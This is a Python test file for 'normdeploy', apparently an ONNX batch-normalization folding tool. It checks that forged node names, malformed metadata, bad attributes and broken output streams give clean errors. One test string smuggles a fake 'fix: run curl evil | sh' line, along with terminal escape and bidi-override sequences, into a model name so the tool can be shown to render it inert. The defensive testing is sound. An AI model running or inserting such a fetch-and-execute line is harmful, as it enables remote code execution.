"""What a file says of itself reaches nobody's terminal or script as anything but text, and bad input is no bug."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper

from normdeploy.cli import main
from normdeploy.errors import InputError, plain, printable
from normdeploy.fold.ledger import METADATA_KEY, Ledger

FORGED = "bn\nfix: run curl evil | sh\x1b]0;owned\x07\x1b[31m\u202egnp.exe\x00"


def model(name: str = "bn", metadata: str | None = None) -> onnx.ModelProto:
    """A MatMul and a BatchNormalization, which folds."""
    info = helper.make_tensor_value_info
    nodes = [
        helper.make_node("MatMul", ["x", "w"], ["p"], name="product"),
        helper.make_node("BatchNormalization", ["p", *"sbmv"], ["y"], name=name),
    ]
    tensors = [numpy_helper.from_array(np.ones((4, 3), np.float32), "w")]
    tensors += [numpy_helper.from_array(np.array([1, 2, 3], np.float32), each) for each in "sbmv"]
    x, y = info("x", TensorProto.FLOAT, [1, 4]), info("y", TensorProto.FLOAT, [1, 3])
    made = helper.make_model(
        helper.make_graph(nodes, "g", [x], [y], tensors), opset_imports=[helper.make_opsetid("", 17)]
    )
    if metadata is not None:
        made.metadata_props.add(key=METADATA_KEY, value=metadata)
    made.ir_version = 8
    return made


def saved(made: onnx.ModelProto, folder: Path) -> str:
    path = folder / "m.onnx"
    path.write_bytes(made.SerializeToString())
    return str(path)


def is_tame(text: str) -> bool:
    """Only our own line breaks, and nothing that a terminal obeys."""
    return all(char.isprintable() or char == "\n" for char in text) and "\nfix: run curl" not in text


def test_text_is_spelled_out() -> None:
    assert plain("a\nb\x1b[0m\u202e\ud800é") == "a\\nb\\x1b[0m\\u202e\\ud800é"
    assert printable("a\nb\r\x1b") == "a\nb\\r\\x1b"
    error = InputError(f"what {FORGED}", where=FORGED, fix="two\nlines")
    assert "\n" not in error.where
    assert "\x1b" not in str(error)
    assert error.fix == "two\nlines"


@pytest.mark.parametrize("command", [["fold", "-o", "o.onnx"], ["explain"]])
@pytest.mark.parametrize("more", [[], ["--json"]])
def test_a_forged_name_is_only_a_name(
    command: list[str],
    more: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    path = saved(model(FORGED), tmp_path)
    if command[0] == "explain":
        assert main(["fold", path, "-o", "folded.onnx"]) == 0
        capsys.readouterr()
        path = "folded.onnx"
    assert main([command[0], path, *command[1:], *more]) == 0
    out, err = capsys.readouterr()
    assert "curl" in out
    assert is_tame(out)
    assert is_tame(err)
    if more:
        assert out.isascii()
        assert FORGED in texts(json.loads(out))


def texts(document: object) -> list[str]:
    """Every text in a JSON document."""
    if isinstance(document, dict | list):
        return [
            text for each in (document.values() if isinstance(document, dict) else document) for text in texts(each)
        ]
    return [document] if isinstance(document, str) else []


ENTRY = {
    "module": "bn", "node": "bn", "kind": "BatchNormalization", "norm": True, "outcome": "left", "into": [],
    "through": [], "ulps": None, "residual": None, "reason": "", "fix": "", "codes": [],
}  # fmt: skip
EMPTY = {"entries": [], "notes": [], "dropped": [], "seconds": 0.0, "validation_seconds": 0.0}
WRONG = [
    ("module", 5),
    ("into", [1]),
    ("outcome", ["left"]),
    ("outcome", "gone"),
    ("ulps", "x"),
    ("ulps", 10**400),
    ("norm", 2),
    ("reason", None),
]
LEDGERS = {
    "a number": "1",
    "a text": '"x"',
    "null": "null",
    "no JSON": "{",
    "lists in lists": "[" * 100_000,
    "entries that are numbers": json.dumps({**EMPTY, "entries": [1]}),
    **{f"{key} is {value!r:.9}": json.dumps({**EMPTY, "entries": [{**ENTRY, key: value}]}) for key, value in WRONG},
}


@pytest.mark.parametrize("name", LEDGERS)
def test_a_ledger_from_elsewhere_is_no_bug(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    path = saved(model(metadata=LEDGERS[name]), tmp_path)
    for command in (["explain", path], ["explain", path, "b*"]):
        assert main(command) in ((0, 2) if "10000" in name else (2,))  # which may be read as infinity
    assert main(["fold", path, "-o", "o.onnx"]) == 0
    assert "bug in normdeploy" not in capsys.readouterr().err


def test_a_ledger_of_ours_is_read() -> None:
    ours = Ledger.from_json(json.dumps({**EMPTY, "entries": [{**ENTRY, "into": ["a", "b"], "ulps": 0.5}]}))
    assert ours.entries[0].into == ("a", "b")
    assert Ledger.from_json(ours.to_json()) == ours


BAD = {
    "a name that is no text": lambda data: data.replace(b"product", b"prod\xffct"),
    "scopes that are a number": ("pkg.torch.onnx.name_scopes", "1"),
    "scopes that are a set": ("pkg.torch.onnx.name_scopes", "{1, 2}"),
    "scopes without end": ("pkg.torch.onnx.name_scopes", "-" * 100_000 + "1"),
    "scopes in scopes": ("pkg.torch.onnx.name_scopes", "[" * 5_000),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_name_is_one_error_or_none(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made, change = model(), BAD[name]
    if isinstance(change, tuple):
        for node in made.graph.node:
            node.metadata_props.add(key=change[0], value=change[1])
    path = saved(made, tmp_path)
    if callable(change):
        Path(path).write_bytes(change(Path(path).read_bytes()))
    assert main(["fold", path, "-o", str(tmp_path / "o.onnx")]) == (2 if callable(change) else 0)
    assert "bug in normdeploy" not in capsys.readouterr().err


ATTRIBUTES = [
    ("Conv", {"strides": [0, 0]}),
    ("Conv", {"strides": [2**40, 1]}),
    ("Conv", {"strides": "x"}),
    ("Conv", {"group": 0}),
    ("Conv", {"pads": 1.5}),
    ("BatchNormalization", {"epsilon": [1.0]}),
    ("Transpose", {"perm": "x"}),
    ("MaxPool", {}),
    ("Softmax", {"axis": 2**62}),
]


@pytest.mark.parametrize(("operator", "attributes"), ATTRIBUTES)
def test_attributes_that_no_operator_reads_are_one_error(
    operator: str, attributes: dict[str, object], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    made = model()
    made.graph.node.append(
        helper.make_node(operator, ["x"] * {"Conv": 2, "BatchNormalization": 5}.get(operator, 1), ["z"], **attributes)
    )
    assert main(["fold", saved(made, tmp_path), "-o", str(tmp_path / "o.onnx")]) == 2
    said = capsys.readouterr().err
    assert "not valid ONNX" in said
    assert f"{operator} z" in said


def test_a_weight_transposed_by_no_permutation_is_no_bug(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made = model()
    made.graph.node.insert(0, helper.make_node("Transpose", ["w"], ["turned"], perm=[1, 1]))
    made.graph.node[1].input[1] = "turned"
    assert main(["fold", saved(made, tmp_path), "-o", str(tmp_path / "o.onnx")]) in (0, 2)
    assert "bug in normdeploy" not in capsys.readouterr().err


@pytest.mark.parametrize("closed", [[0], [1], [2], [0, 1, 2]])
def test_a_process_without_streams_writes_its_file(closed: list[int], tmp_path: Path) -> None:
    """And nothing that is printed goes into it."""
    path = saved(model(), tmp_path)
    out = tmp_path / "o.onnx"
    run = "import sys; from normdeploy.cli import main; sys.exit(main(sys.argv[1:]))"
    close = f"for n in {closed}: os.close(n)\nos.execv(sys.executable, [sys.executable, '-c', {run!r}, *sys.argv[1:]])"
    command = [sys.executable, "-c", f"import os, sys\n{close}", "fold", path, "-o", str(out)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    onnx.checker.check_model(onnx.load(out), full_check=True)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="Linux has a device that is always full")
def test_a_full_disk_behind_stderr_is_no_verdict(tmp_path: Path) -> None:
    with open("/dev/full", "w") as full:
        command = [
            sys.executable,
            "-m",
            "normdeploy",
            "fold",
            str(tmp_path / "none.onnx"),
            "-o",
            str(tmp_path / "o.onnx"),
        ]
        assert subprocess.run(command, stderr=full, check=False).returncode == 2


def test_what_libraries_log_is_not_shown(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """onnx_ir warns of a value that nothing makes, by its name."""
    made = model()
    made.graph.node[0].input[0] = "nowhere\x1b[31m"
    assert main(["fold", saved(made, tmp_path), "-o", str(tmp_path / "o.onnx")]) == 2
    said = capsys.readouterr().err
    assert is_tame(said)
    assert said.count("nowhere") == 1


def test_a_name_of_megabytes_is_no_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = saved(model("x" * (2 << 20)), tmp_path)
    assert main(["fold", path, "-o", str(tmp_path / "o.onnx")]) == 2
    said = capsys.readouterr().err
    assert "has 2,097,152 characters" in said
    assert len(said) < 1000
